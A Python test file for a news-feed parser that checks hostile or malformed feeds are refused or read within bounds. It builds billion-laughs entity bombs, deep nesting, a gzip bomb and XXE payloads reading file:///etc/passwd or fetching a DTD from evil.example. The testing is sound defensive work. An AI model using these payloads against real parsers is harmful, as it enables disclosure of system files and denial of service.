"""What is made to stop, bloat or mislead a reader, in place of a feed: each gets a listing, or a refusal in words.

Process time on the machine where this was written (two shared cores), with and without the checks before feedparser:
160,000 unclosed items 0.07 s (over 12 s), 100,000 attributes 0.02 s (over 40 s), 500,000 open list items 0.03 s (9.5 s),
5,000,000 ampersands 0.03 s (over 8 s), 30,000 subjects 0.02 s (over 5 s), an author of 200,000 letters 0 s (over 5 s).
Of eighty such documents none took more than 0.6 s. No test looks at the clock: each says which reason ends it, or that it was read.
"""

from __future__ import annotations

import gzip
import random

import pytest

from storywatch.core.model import FeedKind, Listing, SitemapIndex
from storywatch.errors import Unreadable
from storywatch.parse.document import parse_document
from storywatch.parse.listed import MAX_UNPACKED
from storywatch.parse.means import MAX_TAGS, weight, within_means

URL = "https://harbor-times.example/feed.xml"
BEFORE = "more than 40,000 tags before the end of the first item"
NOISE = random.Random(5)


def rss(inner: str, doctype: str = "") -> str:
    return f"<?xml version='1.0'?>{doctype}<rss version='2.0'><channel><title>T</title>{inner}</channel></rss>"


def entities(count: int) -> str:
    declared = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "lol"}">' for n in range(count))
    return f"<!DOCTYPE x [{declared}]>"


REFUSED: dict[str, tuple[str | bytes, str]] = {
    "billion laughs": (rss("<item><title>&e29;</title></item>", entities(30)), "declares 30 entities"),
    "entities past the head": (rss("", "<!DOCTYPE x [" + " " * 70_000 + "<!ENTITY a 'b'>" * 50_000 + "]>"), BEFORE),
    "one long entity, used often": (rss("<item><title>" + "&a;" * 50_000 + "</title></item>", "<!DOCTYPE x [<!ENTITY a '" + "a" * 100_000 + "'>]>"), "without a blank"),
    "10^5 tags deep": (rss("<x>" * 100_000), BEFORE),
    "10^4 tags deep": (rss("<x>" * 15_000), "nested more than 10,000 deep"),
    "10^4 namespaces deep": (rss("".join(f"<a{n}:x xmlns:a{n}='u'>" for n in range(15_000))), "nested more than 10,000 deep"),
    "10^5 attributes": (rss("<item " + " ".join(f"a{n}='1'" for n in range(100_000)) + "/>"), "more than 1,000 attributes"),
    "10^5 attributes without quotes": ("<rss><channel><item " + " ".join(f"a{n}=1" for n in range(100_000)) + ">", "more than 1,000 attributes"),
    "10^5 namespaces": (rss("<item " + " ".join(f"xmlns:a{n}='u'" for n in range(100_000)) + "/>"), "more than 1,000 attributes"),
    "unclosed paragraphs": (rss("<item><description>" + "<p>" * 160_000), BEFORE),
    "unclosed list items": (rss("<item><description>" + "<li>" * 500_000), BEFORE),
    "closing tags": (rss("</item>" * 500_000), BEFORE),
    "open brackets": (rss("<item>" + "<" * 1_000_000), BEFORE),
    "tags that never end": (rss("<item>" + "<a " * 1_000_000), BEFORE),
    "quotes that never end": (rss("<item>" + "<a b='" * 300_000), BEFORE),
    "comments that never end": (rss("<item>" + "<!--" * 500_000), BEFORE),
    "CDATA that never ends": (rss("<item>" + "<![CDATA[" * 200_000), BEFORE),
    "instructions that never end": (rss("<item>" + "<?" * 500_000), BEFORE),
    "declarations that never end": (rss("<item>" + "<!DOCTYPE " * 200_000), BEFORE),
    "ampersands": (rss("<item><title>" + "&" * 5_000_000), BEFORE),
    "references without end": (rss("<item><title>" + "&#" * 2_000_000), BEFORE),
    "references": (rss("<item><title>" + "&nbsp;" * 1_500_000), BEFORE),
    "pieces of CDATA": (rss("<item><title>" + "<![CDATA[x]]>" * 300_000 + "</title></item>"), BEFORE),
    "comments before the feed": ("<!-- x -->" * 200_000 + rss(""), BEFORE),
    "hours to skip": (rss("<skipHours>" + "<hour>1</hour>" * 200_000 + "</skipHours>"), BEFORE),
    "subjects": (rss("<item>" + "".join(f"<category>{n}</category>" for n in range(15_000)) + "</item>"), "more than 5,000 subjects"),
    "key words": (rss("<item><media:keywords xmlns:media='http://search.yahoo.com/mrss/'><![CDATA[" + ",".join(map(str, range(30_000))) + "]]></media:keywords></item>"), "more than 5,000 subjects"),
    "an author of 200,000 letters": (rss("<item><author>" + "a" * 200_000 + "</author></item>"), "without a blank"),
    "base addresses": (rss("<item xml:base='" + "a/" * 100_000 + "'>" + "<link>b</link>" * 1_000 + "</item>"), "an xml:base"),
    "JSON 10^6 deep": ("[" * 1_000_000, "nested too deep"),
    "a JSON Feed 10^5 deep": ('{"version":"https://jsonfeed.org/version/1","items":' + '{"a":' * 200_000, "nested too deep"),
    "a number of 10^5 digits": ('{"version":"https://jsonfeed.org/version/1","items":[' + "9" * 100_000 + "]}", "damaged"),
    "a sitemap 10^5 deep": ("<urlset>" + "<url>" * 100_000, "nested more than 100 deep"),
    "a sitemap of 10^5 attributes": ("<urlset " + " ".join(f"a{n}='1'" for n in range(100_000)) + "/>", "a tag of"),
    "a sitemap with entities": ("<urlset><!DOCTYPE u [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><url><loc>&a;</loc></url></urlset>", "a damaged sitemap"),
    "HTML in place of a feed": ("<!DOCTYPE html><html><body>" + "<div><p>x <a href='/'>y</a></div>" * 50_000, "an HTML page"),
    "JSON in place of a feed": ('{"message": "Not Found"}', "a JSON document"),
    "a picture": (b"\x89PNG\r\n\x1a\n" + NOISE.randbytes(100_000), "another file"),
    "noise": (NOISE.randbytes(1_000_000), "not a feed"),
    "NULs": (b"\0" * 5_000_000, "an empty answer"),
    "blanks": (b" \n" * 2_000_000, "an empty answer"),
    "a gzip bomb": (gzip.compress(bytes(200 * 1024 * 1024), compresslevel=1), "when unpacked: refused"),
    "gzip within gzip": (gzip.compress(gzip.compress(b"<rss/>")), "a gzip file within a gzip file"),
    "members without end": (gzip.compress(b"a") * 50_000, "not a feed"),
    "damaged gzip": (b"\x1f\x8b" + NOISE.randbytes(1_000), "a damaged gzip file"),
}  # fmt: skip
READ: dict[str, tuple[str | bytes, int]] = {
    "160,000 unclosed items": ("<rss version='2.0'><channel>" + "<item><title>" * 160_000, 1),
    "40,000 items": (rss("".join(f"<item><title>{n}</title><link>/{n}</link></item>" for n in range(40_000))), 500),
    "ten megabytes of text": (rss("<item><title>" + "word " * 2_000_000 + "</title></item>"), 1),
    "blanks within": (rss("<item><title>" + " " * 5_000_000 + "x</title></item>"), 1),
    "an external entity": (rss("<item><title>A&x;</title></item>", "<!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"), 1),
    "an external entity by parameter": (rss("<item><title>A</title></item>", "<!DOCTYPE r [<!ENTITY % x SYSTEM 'https://evil.example/x.dtd'> %x;]>"), 1),
    "few entities that multiply": (rss("<item><title>&e11;</title></item>", entities(12)), 1),
    "an address of megabytes": (rss("<item><link>https://a.example/" + "a/../" * 500_000 + "</link></item>"), 1),
    "a date of megabytes": (rss("<item><pubDate>" + "1 " * 1_000_000 + "</pubDate></item>"), 1),
    "a polygon of megabytes": (rss("<item><georss:polygon xmlns:georss='http://www.georss.org/georss'>" + "1 2 " * 200_000 + "</georss:polygon></item>"), 1),
    "references to what is no character": (rss("<item><title>A&#xD800;&#0;&#x7fffffff;&#" + "9" * 5_000 + ";</title>"), 1),
    "100,000 items of JSON": ('{"version":"https://jsonfeed.org/version/1","items":[' + ",".join(f'{{"id":{n}}}' for n in range(100_000)) + "]}", 500),
    "60,000 addresses": ("<urlset>" + "".join(f"<url><loc>https://a.example/{n}</loc></url>" for n in range(60_000)) + "</urlset>", 500),
    "an address of a sitemap of megabytes": ("<urlset><url><loc>https://a.example/" + "a" * 8_000_000 + "</loc></url></urlset>", 1),
    "a feed within gzip": (gzip.compress(rss("<item><title>A</title></item>").encode()), 1),
}  # fmt: skip


def as_bytes(document: str | bytes) -> bytes:
    return document.encode() if isinstance(document, str) else document


@pytest.mark.parametrize("case", REFUSED)
def test_what_would_stop_the_reader_is_refused_in_words(case: str) -> None:
    """Before it is parsed."""
    document, reason = REFUSED[case]
    with pytest.raises(Unreadable, match=reason):
        parse_document(as_bytes(document), url=URL)


@pytest.mark.parametrize("case", READ)
def test_what_is_only_large_or_odd_is_read(case: str) -> None:
    """Within bounds of number and length, and nothing of the machine's own files is in it."""
    document, count = READ[case]
    listing = parse_document(as_bytes(document), url=URL)
    assert isinstance(listing, Listing)
    assert len(listing.entries) == count
    for entry in listing.entries:
        assert len(entry.title) <= 501
        assert len(entry.summary) <= 5_001
        assert len(entry.key) <= 500
        assert len(entry.url) <= 8_100
        assert "root:" not in entry.title


def test_what_is_left_out_is_counted_and_the_rest_stays_well_formed() -> None:
    """As many items as can be read in a second, and what follows the last one."""
    few = [f"<item><title>{n}</title></item>" for n in range(510)]
    listing = parse_document(rss("".join(few) + "<ttl>60</ttl>").encode(), url=URL)
    assert isinstance(listing, Listing)
    assert (len(listing.entries), listing.dropped, listing.complete) == (500, 10, True)
    assert listing.freshness.ttl is not None
    heavy = [f"<item><title>{n}</title><description>{'<b>x</b>' * 500}</description></item>" for n in range(60)]
    text, beyond = within_means(rss("".join(heavy)))
    assert weight(text) <= MAX_TAGS < weight(rss("".join(heavy)))
    assert text.count("<item>") == 60 - beyond
    assert 0 < beyond < 60
    assert text.endswith("</item></channel></rss>")


def test_tags_in_cdata_and_a_normal_feed_cost_nothing() -> None:
    """They are text to feedparser: a feed of whole articles loses none."""
    article = "<p>Some words <b>here</b> &amp; there.</p>" * 100
    feed = rss("".join(f"<item><title>{n}</title><content><![CDATA[{article}]]></content></item>" for n in range(400)))
    assert within_means(feed) == (feed, 0)
    assert weight("a<![CDATA[<b>") == 2


def test_a_gzip_file_just_within_the_bound_is_unpacked() -> None:
    """The bound is of what comes out."""
    body = rss("<item><title>A</title></item>").encode()
    padded = body + b" " * (MAX_UNPACKED - len(body))
    listing = parse_document(gzip.compress(padded, compresslevel=1), url=URL)
    assert isinstance(listing, Listing)
    assert len(listing.entries) == 1
    with pytest.raises(Unreadable, match="20 MiB"):
        parse_document(gzip.compress(padded + b" ", compresslevel=1), url=URL)


def test_a_feed_that_is_cut_off_within_gzip_is_taken_as_far_as_it_goes() -> None:
    """And is not taken for complete."""
    body = rss("".join(f"<item><title>{NOISE.randbytes(20).hex()}</title><link>/{n}</link></item>" for n in range(300)))
    packed = gzip.compress(body.encode())
    listing = parse_document(packed[: len(packed) // 2], url=URL)
    assert isinstance(listing, Listing)
    assert 50 < len(listing.entries) < 250
    assert not listing.complete


@pytest.mark.parametrize("kind", [FeedKind.AUTO, FeedKind.SITEMAP])
@pytest.mark.parametrize("seed", range(60))
def test_whatever_comes_is_a_listing_or_a_refusal(seed: int, kind: FeedKind) -> None:
    """Pieces of feeds in any order, cut and mixed with noise: nothing else than `Unreadable` is ever raised."""
    dice = random.Random(seed)
    pieces = [
        "<rss version='2.0'>", "<channel>", "<item>", "</item>", "<title>", "</title>", "<feed xmlns='http://www.w3.org/2005/Atom'>", "<entry>",
        "</entry>", "<![CDATA[", "]]>", "<!--", "-->", "&amp;", "&#x", "&nosuch;", "<link href='", "'/>", "<pubDate>", "<guid>", "\0", "\ud7ff", "é",
        "<?xml version='1.0' encoding='utf-16'?>", "<!DOCTYPE x [", "<!ENTITY a 'b'>", "]>", "<urlset>", "<url>", "<loc>", "</loc>", "</url>",
        "<sitemapindex>", "{", "[", '"version":"https://jsonfeed.org/version/1"', "https://a.example/x\n", " ", "<content type='xhtml'>", "<div>",
        "<dc:date>", "2026-03-02", "&#55296;", "<xml:base=", "<author>", "a@b.example", "<enclosure url='x'", "<skipHours><hour>", "</rss>", "</feed>",
    ]  # fmt: skip
    document = "".join(dice.choice(pieces) for _ in range(dice.randrange(1, 200))).encode()
    if seed % 3 == 0:
        at = dice.randrange(len(document) + 1)
        document = document[:at] + dice.randbytes(20) + document[at:]
    try:
        found = parse_document(document, url=URL, kind=kind)
    except Unreadable as error:
        assert str(error)  # noqa: PT017  either is right
    else:
        assert isinstance(found, Listing | SitemapIndex)
